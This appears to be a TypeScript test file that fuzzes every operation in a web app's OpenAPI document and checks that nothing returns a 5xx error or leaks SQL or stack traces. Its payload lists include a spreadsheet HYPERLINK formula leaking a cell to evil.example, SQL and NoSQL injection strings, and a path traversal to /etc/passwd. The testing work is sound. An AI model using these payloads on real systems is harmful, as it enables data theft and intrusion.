import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildTestApp, type TestApp } from "./helpers/app.ts";
import { actorWith, buildArea, buildMunicipality, buildUser, signIn } from "./helpers/factories.ts";
import { call } from "./helpers/http.ts";
import { buildAssessment, buildInterview, buildRespondent } from "./helpers/readiness.ts";

/**
 * Hostile input over every operation in the published OpenAPI document, as an anonymous caller
 * and as a system administrator: whatever arrives, the answer is never a 5xx and never shows SQL,
 * a stack or a file path. The set of values is fixed, so a failure reproduces.
 */

type JsonSchema = {
  type?: string | string[];
  format?: string;
  enum?: unknown[];
  const?: unknown;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minimum?: number;
  minLength?: number;
  additionalProperties?: boolean | JsonSchema;
  default?: unknown;
};

interface Operation {
  method: string;
  path: string;
  parameters: { name: string; in: "path" | "query"; schema: JsonSchema }[];
  body?: JsonSchema;
}

interface FuzzRequest {
  method: string;
  url: string;
  payload?: string;
  contentType?: string;
  label: string;
}

const NUL = "x\u0000y";
const LONE_SURROGATE = "x\ud800y";
const HOSTILE_STRINGS: unknown[] = [
  NUL,
  LONE_SURROGATE,
  "\udfff",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "' OR 1=1 --",
  "x".repeat(70_000),
  "",
  "   ",
  42,
  null,
  ["a"],
  { $ne: 1 },
];
const HOSTILE_DATES = [
  "0000-01-01",
  "9999-12-31",
  "-0001-01-01",
  "2026-02-30",
  "0000-01-01T00:00:00Z",
  "9999-12-31T23:59:59-23:59",
  "275760-09-13T00:00:00Z",
];
const HOSTILE_NUMBERS: unknown[] = [
  -1,
  0,
  1e308,
  -1e308,
  2 ** 53 + 2,
  2 ** 31,
  0.5,
  "12",
  null,
  true,
];
const HOSTILE_PATH = [
  "%00",
  "x%00y",
  "%ED%A0%80",
  "-1",
  "99999999999999999999",
  "00000000-0000-0000-0000-000000000000",
  randomUUID().toUpperCase(),
  "..%2F..%2Fetc%2Fpasswd",
];
const HOSTILE_QUERY = [
  "%00",
  "x%00y",
  "%ED%A0%80",
  "%25",
  "_",
  "-1",
  "1e308",
  "99999999999999999999",
];
const HOSTILE_QUERY_DATES = [
  "0000-01-01T00:00:00Z",
  "9999-12-31T23:59:59-23:59",
  "0000-01-01",
  "9999-12-31",
  "2026-13-45T99:99:99Z",
];

// A valid change here would reach every test running beside this one on the run's database.
const PLATFORM_WIDE = new Set(["PUT /api/settings/security"]);

const LEAK =
  /\bat \S+ \(|\.tsx?:\d+|node_modules|\/work\/|\/src\/|\bSELECT\b|\bINSERT\b|\bUPDATE\b .* SET|violates|syntax error|relation "|\bpg_|ECONNREFUSED|stack/;

function resolveRef(doc: unknown, schema: JsonSchema | undefined): JsonSchema | undefined {
  const ref = (schema as { $ref?: string } | undefined)?.$ref;
  if (!ref) return schema;
  return ref
    .replace(/^#\//, "")
    .split("/")
    .reduce((node, key) => (node as Record<string, unknown>)[key], doc) as JsonSchema;
}

function typeOf(schema: JsonSchema): string | undefined {
  if (schema.enum || schema.const !== undefined) return "enum";
  const t = Array.isArray(schema.type) ? schema.type.find((x) => x !== "null") : schema.type;
  if (t) return t;
  const inner = schema.anyOf ?? schema.oneOf ?? schema.allOf;
  return inner?.map(typeOf).find((x) => x && x !== "null");
}

function branch(schema: JsonSchema): JsonSchema {
  const inner = schema.anyOf ?? schema.oneOf ?? schema.allOf;
  return inner?.find((s) => typeOf(s) && typeOf(s) !== "null") ?? schema;
}

/** A plausible value for a schema, so that one hostile field at a time reaches deep code. */
function sample(schema: JsonSchema, ids: string[]): unknown {
  const s = branch(schema);
  if (s.default !== undefined) return s.default;
  if (s.const !== undefined) return s.const;
  if (s.enum) return s.enum[0];
  switch (typeOf(s)) {
    case "string":
      if (s.format === "uuid") return ids[0] ?? randomUUID();
      if (s.format === "date") return "2026-03-01";
      if (s.format === "date-time") return "2026-03-01T10:00:00Z";
      if (s.format === "email") return `fuzz-${randomUUID().slice(0, 6)}@fuzz.example`;
      return "Fuzz value 1234";
    case "integer":
    case "number":
      return Math.max(s.minimum ?? 1, 1);
    case "boolean":
      return false;
    case "array":
      return s.items ? [sample(s.items, ids)] : [];
    case "object": {
      // Required fields only: a hostile value then goes in alone, past the other fields' rules.
      const out: Record<string, unknown> = {};
      for (const [key, prop] of Object.entries(s.properties ?? {}))
        if (s.required?.includes(key)) out[key] = sample(prop, ids);
      return out;
    }
    default:
      return "x";
  }
}

function hostileValuesFor(schema: JsonSchema): unknown[] {
  const s = branch(schema);
  const type = typeOf(s);
  if (s.format === "date" || s.format === "date-time") return [...HOSTILE_DATES, NUL, 7];
  if (type === "integer" || type === "number") return HOSTILE_NUMBERS;
  if (type === "boolean") return ["true", 1, null];
  if (type === "array") return [[NUL], [LONE_SURROGATE], "x", [{}]];
  if (type === "object") return [[], NUL, { [NUL]: NUL }, { [LONE_SURROGATE]: LONE_SURROGATE }];
  return HOSTILE_STRINGS;
}

/** Hostile bodies: one field at a time, nested once, plus wrong shapes and content types. */
function hostileBodies(op: Operation, ids: string[]): FuzzRequest[] {
  const schema = op.body;
  const base = schema ? sample(schema, ids) : {};
  const out: { payload: string; label: string; contentType?: string }[] = [];
  const json = (value: unknown, label: string) =>
    out.push({ payload: JSON.stringify(value), label });
  if (base && typeof base === "object" && !Array.isArray(base)) {
    const props = branch(schema ?? {}).properties ?? {};
    for (const [key, prop] of Object.entries(props)) {
      for (const value of hostileValuesFor(prop)) json({ ...base, [key]: value }, `body.${key}`);
      const inner = branch(prop);
      if (typeOf(inner) === "object" && inner.properties) {
        const nestedBase = sample(inner, ids) as Record<string, unknown>;
        for (const nestedKey of Object.keys(inner.properties)) {
          for (const value of [NUL, LONE_SURROGATE, "0000-01-01"])
            json(
              { ...base, [key]: { ...nestedBase, [nestedKey]: value } },
              `body.${key}.${nestedKey}`,
            );
        }
      }
      if (typeOf(inner) === "array" && inner.items && typeOf(branch(inner.items)) === "object") {
        const item = sample(inner.items, ids) as Record<string, unknown>;
        for (const itemKey of Object.keys(branch(inner.items).properties ?? {})) {
          for (const value of [NUL, LONE_SURROGATE, -1, "0000-01-01"])
            json({ ...base, [key]: [{ ...item, [itemKey]: value }] }, `body.${key}[].${itemKey}`);
        }
      }
    }
    json({ ...base, [`unknown_${NUL}`]: 1, __proto__field: 1 }, "body.unknown");
    if (!PLATFORM_WIDE.has(`${op.method} ${op.path}`)) json(base, "body.valid");
  }
  json([base], "body.array");
  json(NUL, "body.string");
  json(null, "body.null");
  out.push({ payload: '{"a":', label: "body.broken-json" });
  out.push({
    payload: "a=b",
    label: "body.form",
    contentType: "application/x-www-form-urlencoded",
  });
  out.push({ payload: NUL, label: "body.text", contentType: "text/plain" });
  out.push({ payload: "<x/>", label: "body.xml", contentType: "application/xml" });
  return out.map((b) => ({
    method: op.method,
    url: "",
    payload: b.payload,
    contentType: b.contentType ?? "application/json",
    label: b.label,
  }));
}

function fillPath(op: Operation, idFor: (op: Operation, name: string) => string): string {
  return op.path.replace(/\{(\w+)\}/g, (_, name: string) => idFor(op, name));
}

function queryString(values: Record<string, string>): string {
  const parts = Object.entries(values).map(([k, v]) => `${k}=${v}`);
  return parts.length ? `?${parts.join("&")}` : "";
}

function requestsFor(op: Operation, ids: string[], idFor: (op: Operation, name: string) => string) {
  const requests: FuzzRequest[] = [];
  const query = op.parameters.filter((p) => p.in === "query");
  const pathParams = op.parameters.filter((p) => p.in === "path");
  const validQuery: Record<string, string> = {};
  for (const p of query) {
    const v = sample(p.schema, ids);
    if (v !== undefined && v !== null) validQuery[p.name] = encodeURIComponent(String(v));
  }
  const validPath = fillPath(op, idFor);
  for (const p of pathParams) {
    for (const value of HOSTILE_PATH) {
      const url = op.path.replace(/\{(\w+)\}/g, (_, name: string) =>
        name === p.name ? value : idFor(op, name),
      );
      requests.push({
        method: op.method,
        url: url + queryString(validQuery),
        label: `path.${p.name}`,
      });
    }
  }
  for (const p of query) {
    const schema = branch(p.schema);
    const dates = schema.format === "date" || schema.format === "date-time";
    const values = dates ? [...HOSTILE_QUERY_DATES.map(encodeURIComponent), "%00"] : HOSTILE_QUERY;
    for (const value of values) {
      requests.push({
        method: op.method,
        url: validPath + queryString({ ...validQuery, [p.name]: value }),
        label: `query.${p.name}`,
      });
    }
  }
  requests.push({
    method: op.method,
    url: `${validPath + queryString(validQuery)}${query.length ? "&" : "?"}unknown%00=1`,
    label: "query.unknown",
  });
  if (op.method !== "GET" && op.method !== "DELETE") {
    for (const b of hostileBodies(op, ids))
      requests.push({ ...b, url: validPath + queryString(validQuery) });
  }
  return requests;
}

let t: TestApp;
let operations: Operation[];
let adminEmail: string;
const known: Record<string, string> = {};

beforeAll(async () => {
  t = await buildTestApp();
  const doc = (await t.app.inject({ method: "GET", url: "/api/openapi.json" })).json();
  operations = [];
  for (const [path, item] of Object.entries(doc.paths as Record<string, Record<string, unknown>>)) {
    for (const [method, raw] of Object.entries(item)) {
      const op = raw as {
        parameters?: { name: string; in: string; schema: JsonSchema }[];
        requestBody?: { content?: Record<string, { schema: JsonSchema }> };
      };
      operations.push({
        method: method.toUpperCase(),
        path,
        parameters: (op.parameters ?? [])
          .filter((p) => p.in === "path" || p.in === "query")
          .map((p) => ({ ...p, in: p.in as "path" | "query", schema: resolveRef(doc, p.schema)! })),
        body: resolveRef(doc, op.requestBody?.content?.["application/json"]?.schema),
      });
    }
  }
  // Real records, so that hostile values in a body reach the commands and the database.
  const admin = await buildUser(t.db, { role: "system_admin" });
  adminEmail = admin.email;
  const municipality = await buildMunicipality(t.db);
  const area = await buildArea(t.db, municipality.id);
  const target = await buildUser(t.db, { role: "reader", organisationId: area.id });
  const { headers } = await actorWith(t, "org_admin", municipality.id);
  const set = await call(
    t,
    "POST",
    `/api/organisations/${municipality.id}/area-group-sets`,
    headers,
    {
      name: "Fuzz",
      kind: "district",
    },
  );
  const group = await call(t, "POST", `/api/area-group-sets/${set.json().id}/groups`, headers, {
    name: "Fuzz group",
  });
  const assessment = await buildAssessment(t.db, {
    organisationId: municipality.id,
    team: [{ userId: admin.id, roles: ["lead", "interviewer", "scorer"] }],
  });
  const respondent = await buildRespondent(t.db, assessment.id);
  const interview = await buildInterview(t.db, assessment.id, {
    respondentId: respondent.id,
    interviewerId: admin.id,
  });
  const [grant] = (
    await t.pool.query("SELECT id FROM platform.role_assignments WHERE user_id = $1", [target.id])
  ).rows;
  Object.assign(known, {
    organisations: municipality.id,
    users: target.id,
    grantId: grant.id,
    "area-group-sets": set.json().id,
    "area-groups": group.json().id,
    assessments: assessment.id,
    interviewId: interview.id,
    respondentId: respondent.id,
    organisationId: municipality.id,
  });
}, 120_000);
afterAll(() => t.close());

/** The real record a path parameter names: by its own name, else by the collection before it. */
function idFor(op: Operation, name: string): string {
  if (known[name]) return known[name];
  const segments = op.path.split("/");
  const at = segments.indexOf(`{${name}}`);
  return known[segments[at - 1] ?? ""] ?? randomUUID();
}

describe("hostile input over every OpenAPI operation", () => {
  it("answers every request without a 5xx and without internals", async () => {
    expect(operations.length).toBeGreaterThan(40);
    const failures: string[] = [];
    let sent = 0;
    for (const identity of ["anonymous", "system_admin"] as const) {
      for (const op of operations) {
        // A fresh session per operation: the fuzzer's own requests may end it (sign-out).
        const headers: Record<string, string> =
          identity === "anonymous" ? {} : await signIn(t, adminEmail);
        const ids = [known.organisationId!];
        for (const r of requestsFor(op, ids, idFor)) {
          sent++;
          const res = await t.app.inject({
            method: r.method as "GET",
            url: r.url,
            headers: {
              ...headers,
              ...(r.payload !== undefined ? { "content-type": r.contentType! } : {}),
            },
            ...(r.payload !== undefined ? { payload: r.payload } : {}),
          });
          if (res.statusCode >= 500 || LEAK.test(res.body)) {
            failures.push(
              `${identity} ${r.method} ${op.path} [${r.label}] → ${res.statusCode} ${res.body.slice(0, 160)}`,
            );
          }
        }
      }
    }
    console.info(
      `fuzz: ${operations.length} operations, ${sent} requests, ${failures.length} failures`,
    );
    expect(failures).toEqual([]);
  }, 240_000);
});
